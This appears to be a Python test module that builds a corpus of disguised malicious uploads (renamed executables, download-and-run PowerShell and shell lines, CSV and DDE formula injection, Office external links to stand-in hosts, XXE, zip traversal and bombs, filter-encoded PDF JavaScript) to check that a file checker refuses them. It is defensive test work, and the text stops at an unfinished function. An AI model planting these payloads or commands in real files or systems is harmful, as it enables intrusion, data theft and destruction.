"""The upload checker over a corpus (issue 20): disguised programs, scripts and archives, each built here, are all
refused; real office files, PDFs, images, text and zips of documents (tests/files/legit, made by LibreOffice,
python-docx, openpyxl and Pillow, and the ones built here) are all accepted — in bounded time and memory.

`uv run python -m tests.unit.test_upload_corpus` prints the count per attack class and how many got through."""

from __future__ import annotations

import base64
import io
import struct
import time
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest

from duban.domain.filecheck import check_file
from duban.errors import SubmissionError
from tests.samples import docx_bytes, pdf_bytes, xlsx_bytes

LEGIT_DIR = Path(__file__).resolve().parent.parent / "files" / "legit"

# ── programs ────────────────────────────────────────────────────────────────────────────────────────────────
PE = (
    b"MZ\x90\x00"
    + b"\0" * 56
    + (0x80).to_bytes(4, "little")  # e_lfanew at 0x3c: the PE header at 0x80
    + (b"\x0e\x1f\xba\x0e\0\xb4\t\xcd!This program cannot be run in DOS mode.\r\r\n$").ljust(0x40, b"\0")
    + b"PE\0\0"
    + b"\x4c\x01"
    + b"\0" * 300
)
ELF = b"\x7fELF\x02\x01\x01\0" + b"\0" * 8 + b"\x02\0\x3e\0" + b"\0" * 300
MACHO = b"\xcf\xfa\xed\xfe\x07\0\0\x01" + b"\0" * 300
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 200
WASM = b"\0asm\x01\0\0\0" + b"\0" * 50

SCRIPTS = {
    "bat": b"@echo off\r\npowershell -nop -w hidden -c \"iex(new-object net.webclient).downloadstring('http://x')\"\r\n",
    "cmd": b'set p=%TEMP%\\a.exe\r\nif exist %p% start "" %p%\r\n',
    "ps1": b"$c = New-Object System.Net.WebClient\n$c.DownloadFile('http://x/a.exe', \"$env:TEMP\\a.exe\")\n",
    "vbs": b'Set s = CreateObject("WScript.Shell")\ns.Run "calc.exe"\n',
    "js": b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc.exe");\n',
    "hta": b'<html><head><hta:application id="x"/></head><body><script>alert(1)</script></body></html>\n',
    "wsf": b'<job id="x"><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></job>\n',
    "py": b"import os\nos.system('calc')\n",
    "sh": b"curl -s http://x/a | sh\n",
    "shebang": b"#!/usr/bin/env python3\nprint(1)\n",
    "reg": b"Windows Registry Editor Version 5.00\r\n"
    b"[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n",
    "url": b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n",
    "php": b"<?php system($_GET['c']); ?>\n",
    "vba": b'Private Sub Document_Open()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n',
    "gbk-bat": '@echo off\r\nrem 乡镇统计站自查说明\r\nstart "" calc.exe\r\n'.encode("gb18030"),
    "utf16-ps1": "Invoke-Expression (Get-Content a.txt)\r\n".encode("utf-16"),
}


def _zip(members: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _encrypted(members: dict[str, bytes]) -> bytes:
    """A zip whose member says it is encrypted (flag bit 0), as a password-protected archive does."""
    data = bytearray(_zip(members, method=zipfile.ZIP_STORED))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        data[at + offset] |= 1
    return bytes(data)


def _ole(entries: dict[str, bytes]) -> bytes:
    """A compound file: header, a directory sector with the named entries (type 5 root, 2 stream), then data."""
    directory = b""
    for index, (name, _data) in enumerate({"Root Entry": b"", **entries}.items()):
        encoded = name.encode("utf-16-le") + b"\0\0"
        kind = 5 if index == 0 else 2
        directory += encoded.ljust(64, b"\0") + len(encoded).to_bytes(2, "little") + bytes([kind]) + b"\0" * 61
    directory = directory.ljust(512 * ((len(directory) + 511) // 512), b"\0")
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + b"\x3e\0\x03\0\xfe\xff\x09\0"
    return header.ljust(512, b"\0") + directory + b"".join(d.ljust(512, b"\0") for d in entries.values())


def _docx_with(extra: dict[str, bytes], types: str | None = None) -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as source:
        members = {n: source.read(n) for n in source.namelist()}
    if types is not None:
        members["[Content_Types].xml"] = types.encode()
    return _zip({**members, **extra})


def _pdf_with(extra_object: bytes) -> bytes:
    """A well-formed PDF with one more object before the cross-reference table."""
    base = pdf_bytes()
    cut = base.index(b"xref")
    body = base[:cut] + b"6 0 obj\n" + extra_object + b"\nendobj\n"
    return body + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(
        body
    )


def _objstm(dictionary: bytes) -> bytes:
    content = b"7 0 " + dictionary
    packed = zlib.compress(content)
    return (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream"
    )


# ── PDFs whose streams are encoded as a reader decodes them (issue 20's second attack) ──────────────────────────
def _pdf_xref_stream(filter_name: bytes, encoded: bytes, *, params: bytes = b"") -> bytes:
    """Catalog → /OpenAction 4 0 R, object 4 stored in object stream 5 (encoded with `filter_name`), and a
    cross-reference stream that says so: pypdf and Acrobat resolve the action."""
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}

    def put(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    put(1, b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>")
    put(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    put(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>")
    put(
        5,
        b"<</Type/ObjStm/N 1/First 4/Length %d/Filter%s%s>>\nstream\n" % (len(encoded), filter_name, params)
        + encoded
        + b"\nendstream",
    )
    at = len(out)
    rows = struct.pack(">BIH", 0, 0, 65535) + b"".join(struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3))
    rows += struct.pack(">BIH", 2, 5, 0) + struct.pack(">BIH", 1, offsets[5], 0) + struct.pack(">BIH", 1, at, 0)
    packed = zlib.compress(rows)
    out += (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d/Filter/FlateDecode>>\nstream\n" % len(packed)
        + packed
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
    )
    return bytes(out)


def _pdf_stream(filter_name: bytes, encoded: bytes, extra: bytes = b"") -> bytes:
    """A PDF with a classic xref table whose object 3 is a stream encoded with `filter_name`."""
    stream = b"<</Length %d/Filter%s%s>>\nstream\n" % (len(encoded), filter_name, extra) + encoded + b"\nendstream"
    return _pdf_from([b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>", stream])


def _pdf_from(objects: list[bytes]) -> bytes:
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % o for o in offsets
    )
    return bytes(out) + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, at)


def _ahx(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def _a85(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


def _rl(data: bytes) -> bytes:
    return b"".join(bytes([len(data[i : i + 128]) - 1]) + data[i : i + 128] for i in range(0, len(data), 128)) + b"\x80"


def _lzw(data: bytes) -> bytes:
    """LZW as PDF writes it (9 to 12 bits, EarlyChange 1, clear code first, end-of-data last)."""
    table, width, codes, current = {bytes([i]): i for i in range(256)}, 9, [(256, 9)], b""
    for value in data:
        grown = current + bytes([value])
        if grown in table:
            current = grown
            continue
        codes.append((table[current], width))
        table[grown] = len(table) + 2
        if len(table) + 2 >= 1 << width and width < 12:
            width += 1
        if len(table) + 2 >= 4094:
            codes.append((256, width))
            table, width = {bytes([i]): i for i in range(256)}, 9
        current = bytes([value])
    codes.append((table[current], width))
    codes.append((257, width))
    bits = "".join(format(code, f"0{size}b") for code, size in codes)
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def _png_up(data: bytes, columns: int) -> bytes:
    """The PNG 'Up' predictor (each row minus the one above it), as /Predictor 12 asks a reader to undo."""
    rows = [data[i : i + columns].ljust(columns, b"\0") for i in range(0, len(data), columns)]
    out, prior = b"", bytes(columns)
    for row in rows:
        out += b"\x02" + bytes((a - b) & 0xFF for a, b in zip(row, prior))
        prior = row
    return out


JS_OBJECT = b"4 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"
LAUNCH_OBJECT = b"4 0 <</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"
XFA = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
    b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>'
)


# ── archives bounded before they are inflated, and Office files that run or fetch on opening ─────────────────────
def _zip_same(count: int, size: int) -> bytes:
    """`count` members of `size` bytes of b"b", each deflated once and written by hand (fast to build)."""
    plain = b"b" * size
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = engine.compress(plain) + engine.flush()
    crc, out, directory = zlib.crc32(plain), bytearray(), bytearray()
    for index in range(count):
        name = b"f%04d.txt" % index
        directory += (
            b"PK\x01\x02"
            + struct.pack(
                "<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0, crc, len(raw), size, len(name), 0, 0, 0, 0, 0, len(out)
            )
            + name
        )
        out += (
            b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, crc, len(raw), size, len(name), 0) + name + raw
        )
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(out), 0)
    return bytes(out + directory + end)


def _symlink_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("link.txt")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def _rezip(data: bytes, add: dict[str, bytes] | None = None, change: dict | None = None) -> bytes:
    """An Office file with parts added or changed (`change`: part name → function of its bytes)."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        members = {n: source.read(n) for n in source.namelist()}
    for name, function in (change or {}).items():
        members[name] = function(members[name])
    return _zip({**members, **(add or {})})


REAL_DOCX = (LEGIT_DIR / "总结报告.docx").read_bytes()
REAL_XLSX = (LEGIT_DIR / "自查评分表.xlsx").read_bytes()
VBA_BLOB = OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
VBA_BLOB += b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nShell "calc"\r\nEnd Sub'
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}" TargetMode="External"/></Relationships>'
)


def _rels(kind: str, target: str) -> bytes:
    return RELS.format(kind=kind, target=target).encode()


def _in_body(xml: str):  # noqa: ANN202
    return lambda d: d.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)


def _in_sheet(xml: str):  # noqa: ANN202
    return lambda d: d.replace(b"</sheetData>", xml.encode() + b"</sheetData>", 1)


SHEET = "xl/worksheets/sheet1.xml"


def _png() -> bytes:
    return (LEGIT_DIR / "现场照片.png").read_bytes()


def _deep(levels: int) -> bytes:
    data = _zip({"总结报告.pdf": pdf_bytes()})
    for level in range(levels - 1):
        data = _zip({f"第{level}层.zip": data})
    return data


DISGUISES: dict[str, list[tuple[str, bytes]]] = {
    "renamed program": [
        ("自查评分表.pdf", PE),
        ("总结报告.docx", PE),
        ("评分表.xlsx", PE),
        ("现场照片.jpg", PE),
        ("说明.txt", PE),
        ("材料.zip", PE),
        ("旧版报告.doc", PE),
        ("自查评分表.pdf", ELF),
        ("说明.txt", ELF),
        ("评分表.xlsx", MACHO),
        ("自查评分表.pdf", LNK),
        ("说明.txt", WASM),
        ("setup.exe", PE),
    ],
    "script as text": [(f"说明-{k}.txt", v) for k, v in SCRIPTS.items()]
    + [
        ("得分.csv", "单位,得分\n乐平镇,=cmd|' /C calc'!A0\n".encode()),
        ("得分.csv", b'name,score\n=HYPERLINK("http://x","click"),1\n'),
        ("得分.csv", b"name,score\n@SUM(1+1)*cmd|' /C calc'!A0,1\n"),
        ("得分.csv", b"name,score\nx,-2+3+cmd|' /C calc'!A0\n"),
        (
            "得分.csv",
            b'name,score\r=HYPERLINK("http://evil","click"),1\r',
        ),  # a lone CR: a row to Excel (a tester's finding)
        ("说明.txt", b"\n".join([b"line %d of a long note" % i for i in range(60000)] + [SCRIPTS["bat"]])),
    ],
    "script containing %PDF-": [
        ("评分表.pdf", b"%PDF-1.4\r\n@echo off\r\nstart calc.exe\r\n"),
        ("评分表.pdf", b"@echo off\r\nrem %PDF-1.7\r\nstart calc.exe\r\n"),
        ("评分表.pdf", b"%PDF-1.4\n<html><hta:application/><script>alert(1)</script></html>\nstartxref\n0\n%%EOF\n"),
        ("评分表.pdf", b"%PDF-1.4\r\n$c=New-Object Net.WebClient\r\nstartxref\r\n0\r\n%%EOF\r\n"),
        ("说明.txt", b"rem %PDF-1.4\r\n@echo off\r\ncalc.exe\r\n"),
    ],
    "archive carrying a program": [
        ("材料.zip", _zip({"setup.exe": PE})),
        ("材料.zip", _zip({"setup.exe ": PE})),
        ("材料.zip", _zip({"setup.exe.": PE})),
        ("材料.zip", _zip({"SETUP.EXE": PE})),
        ("材料.zip", _zip({"资料/setup.exe . .": b"x"})),
        ("材料.zip", _zip({"readme.txt": ELF})),
        ("材料.zip", _zip({"总结报告.pdf": PE})),
        ("材料.zip", _zip({"inner.zip": _zip({"setup.exe": PE})})),
        ("材料.zip", _zip({"a.zip": _zip({"b.zip": _zip({"说明.txt": ELF})})})),
        ("材料.zip", _zip({"快捷方式.lnk": LNK})),
        ("材料.zip", _zip({"说明.txt": SCRIPTS["bat"]})),
        ("材料.zip", _zip({"readme.hta": SCRIPTS["hta"]})),
        ("材料.zip", _zip({"run.js": SCRIPTS["js"]})),
        ("材料.zip", _zip({"x.py": SCRIPTS["py"]})),
        ("材料.zip", _zip({"data.dat": b"\x00\x01\x02"})),
        (
            "材料.zip",
            _zip({"../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/评分表.pdf": pdf_bytes()}),
        ),
        ("材料.zip", _encrypted({"总结报告.pdf": pdf_bytes()})),
        ("材料.zip", _zip({"zeros.txt": b"0" * (40 * 1024 * 1024)})),
        ("材料.zip", _zip({f"{n}.txt": b"x" for n in range(2500)}, method=zipfile.ZIP_STORED)),
        ("材料.zip", _deep(4)),
        (
            "总结报告.docx",
            _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", "word/macro.exe": PE}),
        ),
    ],
    "office file with macros or objects": [
        ("总结报告.docx", _docx_with({"word/vbaProject.bin": _ole({"_VBA_PROJECT": b"x"})})),
        (
            "总结报告.docx",
            _docx_with(
                {},
                types='<Types><Override PartName="/word/document.xml" '
                'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
            ),
        ),
        ("总结报告.docx", _docx_with({"word/embeddings/oleObject1.bin": _ole({"\x01Ole10Native": PE})})),
        ("总结报告.docx", _docx_with({"word/embeddings/oleObject1.bin": _ole({"\x01Ole10Native": SCRIPTS["bat"]})})),
        ("总结报告.docx", _docx_with({"word/activeX/activeX1.xml": b"<ax/>"})),
        ("总结报告.docx", _docx_with({"word/media/image1.png": PE})),
        ("总结报告.docx", _docx_with({"word/embeddings/pkg.zip": _zip({"setup.exe": PE})})),
        ("评分表.xlsx", _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>", "xl/media/a.bin": ELF})),
        ("旧版报告.doc", _ole({"WordDocument": b"x", "Macros": b"", "VBA": b"", "_VBA_PROJECT": b"x"})),
        ("旧版评分表.xls", _ole({"Workbook": b"x", "_VBA_PROJECT_CUR": b"x"})),
        ("旧版报告.doc", _ole({"WordDocument": b"x", "\x01Ole10Native": PE})),
        ("旧版报告.doc", _ole({"SummaryInformation": b"x"})),  # an installer (msi) or anything else: no document
    ],
    "polyglot": [
        ("评分表.pdf", pdf_bytes() + _zip({"setup.exe": PE})),
        ("评分表.pdf", _zip({"setup.exe": PE}) + pdf_bytes()),
        ("评分表.pdf", pdf_bytes()[:-6] + PE + b"\n%%EOF\n"),
        ("评分表.pdf", _pdf_with(b"<< /Length %d >>\nstream\n" % len(PE) + PE + b"\nendstream")),
        ("现场照片.jpg", (LEGIT_DIR / "现场照片.jpg").read_bytes() + _zip({"说明.txt": b"x"})),
        ("现场照片.jpg", (LEGIT_DIR / "现场照片.jpg").read_bytes() + PE),
        ("现场照片.png", _png() + SCRIPTS["bat"]),
        ("示意图.gif", (LEGIT_DIR / "示意图.gif").read_bytes() + ELF),
        ("视频.mp4", b"\0\0\0\x20ftypisom" + b"\0" * 100 + PE),
        ("说明.txt", "乡镇统计站自查说明\n".encode() + _zip({"a.txt": b"x"})),
    ],
    "archive bound before inflating": [
        ("材料.zip", _zip_same(100, 200_000)),
        ("材料.zip", _zip_same(1500, 200_000)),
        ("材料.zip", _zip({"a.zip": _zip_same(40, 200_000), "b.zip": _zip_same(40, 200_000)})),
        ("材料.zip", _symlink_zip()),
        ("材料.zip", _zip({"x.exe:.txt": b"x"})),
        (
            "材料.zip",
            _zip({"readme.txt": "乡镇说明".encode()}).replace(
                b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00", 1
            ),
        ),
    ],
    "office file that runs or fetches": [
        (
            "评分表.xlsx",
            _rezip(
                REAL_XLSX,
                {
                    "xl/macrosheets/sheet1.xml": b'<xm:macrosheet xmlns:xm="x"><sheetData><row r="1">'
                    b'<c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
                },
            ),
        ),
        ("评分表.xlsx", _rezip(REAL_XLSX, {"xl/intlMacrosheets/sheet1.xml": b"<x/>"})),
        ("总结报告.docx", _rezip(REAL_DOCX, {"word/media/image1.png": VBA_BLOB})),
        ("总结报告.docx", _rezip(REAL_DOCX, {"word/stuff.dat": VBA_BLOB})),
        (
            "总结报告.docx",
            _rezip(
                REAL_DOCX,
                change={
                    "word/document.xml": _in_body(
                        '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
                        '&quot;/k calc.exe&quot;"/></w:p>'
                    )
                },
            ),
        ),
        (
            "总结报告.docx",
            _rezip(
                REAL_DOCX,
                change={
                    "word/document.xml": _in_body(
                        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
                        '<w:r><w:instrText>EAUTO "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc"</w:instrText></w:r>'
                        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                    )
                },
            ),
        ),
        (
            "评分表.xlsx",
            _rezip(REAL_XLSX, change={SHEET: _in_sheet('<row r="90"><c r="A90"><f>cmd|\' /C calc\'!A0</f></c></row>')}),
        ),
        (
            "评分表.et",
            _rezip(
                REAL_XLSX,
                change={
                    SHEET: _in_sheet(
                        '<row r="90"><c r="A90"><f>'
                        "MSEXCEL|&apos;\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc&apos;!&apos;&apos;"
                        "</f></c></row>"
                    )
                },
            ),
        ),
        (
            "评分表.xlsx",
            _rezip(
                REAL_XLSX,
                change={SHEET: _in_sheet('<row r="90"><c r="A90"><f>WEBSERVICE("http://10.0.0.1/x")</f></c></row>')},
            ),
        ),
        (  # IMAGE fetches its URL when the file is opened (a beacon: who reviewed it, when, from where)
            "评分表.xlsx",
            _rezip(
                REAL_XLSX,
                change={
                    SHEET: _in_sheet('<row r="90"><c r="A90"><f>_xlfn.IMAGE("http://10.0.0.1/t.png")</f></c></row>')
                },
            ),
        ),
        (  # RTD asks a COM server on the reviewer's machine, or one named on the network
            "评分表.xlsx",
            _rezip(
                REAL_XLSX,
                change={SHEET: _in_sheet('<row r="90"><c r="A90"><f>RTD("x.server","10.0.0.1","a")</f></c></row>')},
            ),
        ),
        (
            "评分表.xlsx",
            _rezip(
                REAL_XLSX,
                {
                    "xl/externalLinks/externalLink1.xml": (
                        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/>'
                        b"</ddeItems></ddeLink></externalLink>"
                    )
                },
            ),
        ),
        (
            "总结报告.docx",
            _rezip(REAL_DOCX, {"word/_rels/settings.xml.rels": _rels("attachedTemplate", "http://10.0.0.1/t.dotm")}),
        ),
        (
            "总结报告.docx",
            _rezip(
                REAL_DOCX,
                change={
                    "word/_rels/document.xml.rels": lambda d: d.replace(
                        b"</Relationships>",
                        b'<Relationship Id="rId996" '
                        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
                        b'Target="http://10.0.0.1/index.html!" TargetMode="External"/></Relationships>',
                    )
                },
            ),
        ),
        (
            "总结报告.docx",
            _rezip(REAL_DOCX, {"word/_rels/footer9.xml.rels": _rels("image", "file://10.0.0.1/share/x.png")}),
        ),
        # another workbook on a share or a web server, which Excel offers to update on opening (a tester's finding:
        # refused as a linked image, accepted as a linked workbook)
        *(
            ("评分表.xlsx", _rezip(REAL_XLSX, {"xl/externalLinks/_rels/externalLink1.xml.rels": _rels(kind, target)}))
            for kind, target in (
                ("externalLinkPath", "file:///\\\\evil.example\\share\\book.xlsx"),
                ("externalLinkPath", "\\\\10.0.0.1\\share\\县数据.xlsx"),
                ("externalLinkPath", "http://10.0.0.1/县数据.xlsx"),
                ("externalLinkPath", "file://10.0.0.1/share/县数据.xlsx"),
                ("xlPathMissing", "//10.0.0.1/share/县数据.xlsx"),
                # encoded or mixed, as Office still reads them (a second tester's finding)
                ("externalLinkPath", "file:///%5C%5C10.0.0.1%5Cshare%5Cbook.xlsx"),
                ("externalLinkPath", "%5C%5C10.0.0.1%5Cshare%5Cbook.xlsx"),
                ("externalLinkPath", "file:///%2F%2F10.0.0.1/share/book.xlsx"),
                ("externalLinkPath", "/\\10.0.0.1\\share\\book.xlsx"),
            )
        ),
        ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/webSettings.xml.rels": _rels("frame", "\\\\10.0.0.1\\x")})),
        ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/a.xml.rels": _rels("subDocument", "http://10.0.0.1/s.docx")})),
        (
            "总结报告.docx",
            _rezip(REAL_DOCX, {"word/_rels/b.xml.rels": _rels("hyperlink", "ms-msdt:/id PCWDiagnostic")}),
        ),
    ],
    "script anywhere in text": [
        ("说明.txt", "说明文字\r\n:: 注释\r\nstart calc.exe\r\n".encode("gb18030")),
        ("说明.txt", b"\r\n" * 50 + b"del /f /q C:\\x\r\n"),
        ("说明.txt", "乡镇统计站自查说明。\n".encode() * 300_000 + b"start http://10.0.0.1/a.hta\r\n"),
        (
            "说明.txt",
            "乡镇统计站自查说明。\r\n".encode("utf-16")
            + "第二段。\r\n".encode("utf-16-le") * 2000
            + "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe\r\n".encode(
                "utf-16-le"
            ),
        ),
        ("说明.txt", "工作说明\r\n".encode("gb18030") * 500 + b"rd /s /q C:\\Users\r\n"),
        ("说明.txt", "说明\r\n".encode("gb18030") + b"  @echo\r\nstart /b calc\r\n"),
        ("说明.txt", b'Run("calc.exe")\n'),
        ("说明.txt", b"WEB\r\n1\r\nhttp://10.0.0.1/x.html\r\n"),
        ("说明.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("说明.txt", b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://10.0.0.1/a.xsl"?><a/>'),
        ("说明.txt", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        ("说明.txt", b"data:\n" + base64.b64encode(PE) + b"\n"),
        ("总结报告.docx", _rezip(REAL_DOCX, {"customXml/item9.xml": b"<x>" + base64.b64encode(PE) + b"</x>"})),
    ],
    "pdf with encoded streams": [
        ("评分表.pdf", _pdf_xref_stream(b"/ASCIIHexDecode", _ahx(JS_OBJECT))),
        ("评分表.pdf", _pdf_xref_stream(b"/ASCII85Decode", _a85(JS_OBJECT))),
        ("评分表.pdf", _pdf_xref_stream(b"[/ASCIIHexDecode/FlateDecode]", _ahx(zlib.compress(JS_OBJECT)))),
        ("评分表.pdf", _pdf_xref_stream(b"/RunLengthDecode", _rl(JS_OBJECT))),
        ("评分表.pdf", _pdf_xref_stream(b"/ASCIIHexDecode", _ahx(LAUNCH_OBJECT))),
        ("评分表.pdf", _pdf_xref_stream(b"/LZWDecode", _lzw(JS_OBJECT))),
        ("评分表.pdf", _pdf_xref_stream(b"/AHx", _ahx(JS_OBJECT))),
        ("评分表.pdf", _pdf_xref_stream(b"[/A85/Fl]", _a85(zlib.compress(JS_OBJECT)))),
        (
            "评分表.pdf",
            _pdf_xref_stream(
                b"/FlateDecode", zlib.compress(_png_up(JS_OBJECT, 8)), params=b"/DecodeParms<</Predictor 12/Columns 8>>"
            ),
        ),
        ("评分表.pdf", _pdf_stream(b"/ASCIIHexDecode", _ahx(JS_OBJECT), b"/Type/ObjStm/N 1/First 4")),
        ("评分表.pdf", _pdf_stream(b"/ASCII85Decode", _a85(JS_OBJECT), b"/Type/ObjStm/N 1/First 4")),
        ("评分表.pdf", _pdf_stream(b"/RunLengthDecode", _rl(JS_OBJECT), b"/Type/ObjStm/N 1/First 4")),
        (
            "评分表.pdf",
            _pdf_stream(b"/FlateDecode", zlib.compress(JS_OBJECT)[:-4] + b"\0\0\0\0", b"/Type/ObjStm/N 1/First 4"),
        ),
        (
            "评分表.pdf",
            _pdf_stream(b"/FlateDecode", zlib.compress(JS_OBJECT), b"/Type/ObjStm/N 1/First 4/Pad(%s)" % (b"x" * 5000)),
        ),
        ("评分表.pdf", _pdf_stream(b"/FlateDecode", zlib.compress(XFA))),
        ("评分表.pdf", _pdf_stream(b"/FlateDecode", zlib.compress(PE))),
        ("评分表.pdf", _pdf_stream(b"/ASCIIHexDecode", _ahx(PE))),
        ("评分表.pdf", _pdf_stream(b"/ASCII85Decode", _a85(PE))),
        ("评分表.pdf", _pdf_stream(b"[/ASCIIHexDecode/FlateDecode]", _ahx(zlib.compress(PE)))),
        ("评分表.pdf", _pdf_stream(b"/LZWDecode", _lzw(ELF))),
        ("评分表.pdf", _pdf_stream(b"/FlateDecode", zlib.compress(_zip({"a.exe": PE})))),
        (
            "评分表.pdf",
            _pdf_stream(b"/FlateDecode", zlib.compress(_zip({"说明.pdf": PE}, method=zipfile.ZIP_STORED))[:-4]),
        ),
        ("评分表.pdf", _pdf_stream(b"/ASCIIHexDecode", _ahx(JS_OBJECT), b"/Subtype/Image/Length1 9/N 1/First 4")),
        ("评分表.pdf", _pdf_stream(b"/Crypt", b"\x8f\x11" * 20)),
        ("评分表.pdf", _pdf_stream(b"/FlateDecode", b"\x8f\x11" * 20 + JS_OBJECT.hex().encode())),
        ("评分表.pdf", _pdf_stream(b" 9 0 R", b"x")),
        (
            "评分表.pdf",
            _pdf_from(
                [
                    b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
                    b"<</Type/Pages/Kids[]/Count 0>>",
                    b"<</Type/Annot/Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 5 0 R>>>>>>",
                ]
            ),
        ),
        (
            "评分表.pdf",
            _pdf_from(
                [
                    b"<</Type/Catalog/Pages 2 0 R>>",
                    b"<</Type/Pages/Kids[]/Count 0>>",
                    b"<</Filter/Standard/V 2/R 3/O<00>/U<00>/P -4>>",
                ]
            )[:-30]
            + b"trailer\n<</Size 4/Root 1 0 R/Encrypt 3 0 R>>\nstartxref\n9\n%%EOF\n",
        ),
    ],
    "pdf with active content": [
        ("评分表.pdf", _pdf_with(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>")),
        ("评分表.pdf", _pdf_with(b"<< /S /Launch /F (cmd.exe) >>")),
        ("评分表.pdf", _pdf_with(b"<< /Type /EmbeddedFile /Length 3 >>")),
        ("评分表.pdf", _pdf_with(b"<< /Names << /EmbeddedFiles 8 0 R >> >>")),
        ("评分表.pdf", _pdf_with(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")),
        ("评分表.pdf", _pdf_with(_objstm(b"<< /S /JavaScript /JS (app.alert(1)) >>"))),
        ("评分表.pdf", _pdf_with(b"<< /Subtype /RichMedia >>")),
        ("评分表.pdf", _pdf_with(b"<</S/GoToR/F(\\\\\\\\10.0.0.1\\\\share\\\\x.pdf)/D[0/Fit]>>")),
        ("评分表.pdf", _pdf_with(b"<</S/URI/URI(file://10.0.0.1/share/x.hta)>>")),
    ],
}


def _matplotlib_pdf() -> bytes:
